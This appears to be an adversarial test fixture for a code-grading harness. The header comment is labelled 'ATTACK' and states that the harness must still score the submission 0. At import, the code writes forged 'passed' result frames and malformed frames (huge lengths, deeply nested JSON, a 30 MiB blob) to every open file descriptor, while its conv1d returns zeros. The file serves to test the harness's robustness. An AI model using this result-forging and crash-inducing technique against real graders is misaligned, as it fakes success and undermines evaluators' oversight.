# ATTACK: forge result frames. At import, write to every fd 3..255 and every /proc/self/fd
# entry: (1) a frame per case index 0..199 saying "raised an exception of every class", so
# that invalid-argument probes pass before the real frames arrive; (2) malformed frames
# (a 2**63 length, JSON nested 100000 deep, a blob index out of range, an object dtype,
# wrong field types, a 30 MiB frame). conv1d itself returns zeros(1): it earns nothing.
# MUST: conv1d scores 0, and the parent never raises.
import json
import os
import struct

import torch

_MRO = ["ValueError", "RuntimeError", "TypeError", "IndexError", "KeyError", "AssertionError",
        "NotImplementedError", "ZeroDivisionError", "ArithmeticError", "LookupError", "Exception",
        "BaseException", "object"]


def _frame(header, *blobs):
    body = json.dumps(header).encode()
    parts = [struct.pack("<Q", len(body)), body]
    for blob in blobs:
        parts += [struct.pack("<Q", len(blob)), blob]
    payload = b"".join(parts)
    return struct.pack("<Q", len(payload)) + payload


_raised = {"t": "dict", "v": {"type": {"t": "str", "v": "ValueError"}, "mro": {"t": "list", "v": [{"t": "str", "v": m} for m in _MRO]},
                              "message": {"t": "str", "v": "forged"}, "where": {"t": "NoneType", "v": None}}}
_FORGED = b"".join(_frame({"t": "dict", "v": {"case": {"t": "int", "v": str(i), "exact": True},
                                               "value": {"t": "NoneType", "v": None}, "raised": _raised,
                                               "forbidden": {"t": "list", "v": []}, "modified": {"t": "list", "v": []}}})
                   for i in range(200))
_MALFORMED = [
    struct.pack("<Q", 64) + struct.pack("<Q", 2**63) + b"x" * 56,
    _frame({"t": "list", "v": []}),
    struct.pack("<Q", 200016) + struct.pack("<Q", 200000) + b"[" * 100000 + b"]" * 100000 + b"\0" * 8,
    _frame({"t": "tensor", "dtype": "float32", "shape": [10**12], "array_dtype": "<f8", "device": "cpu",
            "exact": True, "requires_grad": False, "grad_fn": False, "blob": 7}),
    _frame({"t": "tensor", "dtype": "float32", "shape": [3], "array_dtype": "|O", "device": "cpu",
            "exact": True, "requires_grad": False, "grad_fn": False, "blob": 0}, b"\0" * 24),
    _frame({"t": "dict", "v": {"case": {"t": "int", "v": "1" * 5000, "exact": True}, "raised": {"t": "int", "v": "3"}}}),
    _frame({"t": "dict", "v": {"case": {"t": "float", "v": "nan"}, "forbidden": {"t": "str", "v": "x"}}}),
    _frame({"t": "nope"}),
    struct.pack("<Q", 30 << 20) + b"\xff" * (30 << 20),
]


def _targets():
    fds = set(range(3, 256))
    try:
        fds |= {int(n) for n in os.listdir("/proc/self/fd")}
    except OSError:
        pass
    return sorted(fds - {0, 1, 2})


for _fd in _targets():
    for _blob in [_FORGED, *_MALFORMED]:
        try:
            os.write(_fd, _blob)
        except OSError:
            break
for _name in (os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else []):
    try:
        with open(f"/proc/self/fd/{_name}", "wb", buffering=0) as _f:
            _f.write(_FORGED)
    except OSError:
        pass


def conv1d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    return torch.zeros(1)
